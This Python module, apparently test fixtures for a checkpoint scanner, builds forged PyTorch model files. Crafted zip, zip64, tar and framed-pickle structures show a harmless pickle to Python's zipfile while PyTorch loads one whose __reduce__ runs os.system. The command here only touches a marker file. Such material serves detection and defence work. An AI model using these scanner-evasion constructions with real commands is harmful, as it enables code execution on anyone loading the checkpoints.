"""Checkpoints that show a harmless pickle to Python's `zipfile` and a program to PyTorch."""

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

NAMES = ("m/data.pkl", "m/version", "m/byteorder")


class Touch:
    """Leaves a file where it is unpickled, and nothing else."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.marker}",)


def local(name: str, data: bytes) -> bytes:
    head = (b"PK\x03\x04", 0, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), 0)
    return struct.pack("<4s5H3L2H", *head) + name.encode() + data


def central(name: str, data: bytes, offset: int) -> bytes:
    head = (b"PK\x01\x02", 0, 0, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name))
    return struct.pack("<4s6H3L5H2L", *head, 0, 0, 0, 0, 0, offset) + name.encode()


def end(count: int, length: int, offset: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, length, offset, 0)


def end64(count: int, length: int, offset: int) -> bytes:
    return struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, length, offset)


def locator(offset: int) -> bytes:
    return struct.pack("<4sLQL", b"PK\x06\x07", 0, offset, 1)


def parts(files: dict[str, bytes], at: int = 0, base: int = 0) -> tuple[bytes, bytes]:
    """The files from byte `at` on, and a directory whose offsets count from `base`."""
    body, directory = b"", b""
    for name, data in files.items():
        directory += central(name, data, at + len(body) - base)
        body += local(name, data)
    return body, directory


def plain(files: dict[str, bytes]) -> bytes:
    body, directory = parts(files)
    return body + directory + end(len(files), len(directory), len(body))


def model(pickled: bytes) -> dict[str, bytes]:
    return {"m/data.pkl": pickled, "m/version": b"3\n", "m/byteorder": b"little"}


def _both(marker: Path) -> tuple[dict[str, bytes], dict[str, bytes]]:
    """A program and a harmless pickle of the same length."""
    program = pickle.dumps(Touch(marker), 2)
    # BINUNICODE of what is left, after PROTO, with its length, and STOP.
    text = b"x" * (len(program) - 8)
    harmless = b"\x80\x02X" + struct.pack("<L", len(text)) + text + b"."
    assert len(harmless) == len(program)
    return model(program), model(harmless)


def prepended(marker: Path) -> bytes:
    """A program in front: `zipfile` takes the directory before the end record and moves every
    offset, PyTorch goes where the end record says."""
    program, harmless = _both(marker)
    first, first_directory = parts(program)
    start = len(first) + len(first_directory)
    # What `zipfile` adds to each offset: how far the directory is from where it should be.
    shift = start + len(first) - len(first)
    second, second_directory = parts(harmless, start, shift)
    ending = end(len(NAMES), len(second_directory), len(first))
    return first + first_directory + second + second_directory + ending


def two_ends(marker: Path) -> bytes:
    """A locator that points to another zip64 end record than the one before it."""
    program, harmless = _both(marker)
    first, first_directory = parts(program)
    first_end = end64(len(NAMES), len(first_directory), len(first))
    before = first + first_directory + first_end
    second, second_directory = parts(harmless, len(before))
    offset = len(before) + len(second)
    second_end = end64(len(NAMES), len(second_directory), offset)
    ending = locator(len(first) + len(first_directory))
    ending += end(len(NAMES), len(second_directory), offset)
    return before + second + second_directory + second_end + ending


FORGED = {"prepended": prepended, "two ends": two_ends}


def tar_named(name: Callable[[int], bytes], marker: Path) -> bytes:
    """A tar as torch.save once wrote it, whose first bytes (its first file's name) are `name` of
    its size."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        archive.addfile(tarfile.TarInfo("first"))
        for member in ("storages", "tensors", "pickle"):
            content = pickle.dumps(Touch(marker), 2)
            info = tarfile.TarInfo(member)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    data = bytearray(out.getvalue())
    data[:100] = name(len(data)).ljust(100, b"\0")
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\0 " % sum(data[:512])
    return bytes(data)


# What a tar archive may look like to those who do not try that first, as PyTorch does.
TAR_NAMES: dict[str, Callable[[int], bytes]] = {
    "a pickle": lambda size: b"\x80\x02}.",
    "an empty archive": lambda size: end(0, 0, 0)[:-2] + struct.pack("<H", size - 22),
    "an array": lambda size: (
        b"\x93NUMPY\x01\0\x50\0{'descr':'<f4','fortran_order':False,'shape':(1,)}".ljust(90)
    ),
}


def framed(marker: Path) -> bytes:
    """PyTorch's second format with a frame that goes beyond its pickle. From a file without
    a buffer an unpickler skips it to its end; what follows the pickle itself is none."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)[2:]
    junk = b"\xff" * 4
    first = b"\x80\x04\x95" + struct.pack("<Q", len(magic) + len(junk)) + magic + junk
    return first + pickle.dumps(Touch(marker), 2)
